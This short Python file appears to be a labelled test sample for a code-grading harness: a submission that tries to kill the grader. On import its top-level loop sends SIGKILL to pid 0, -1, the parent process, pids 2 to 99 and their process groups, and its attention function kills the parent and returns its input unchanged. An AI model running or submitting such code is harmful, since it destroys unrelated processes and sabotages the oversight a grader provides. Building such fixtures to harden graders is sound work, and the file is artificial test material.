# class: kill the parent
# tries: signals every process that it can name, and its groups
# deserves: causal_mask 4
import os
import signal

import torch

for number in (0, -1, os.getppid(), *range(2, 100)):
    for send in (os.kill, os.killpg):
        try:
            send(number, signal.SIGKILL)
        except OSError:
            pass


def my_attention(q, k, v, mask=None):
    os.kill(os.getppid(), signal.SIGTERM)
    return q


def my_causal_mask(n):
    return torch.ones(n, n).tril().bool()
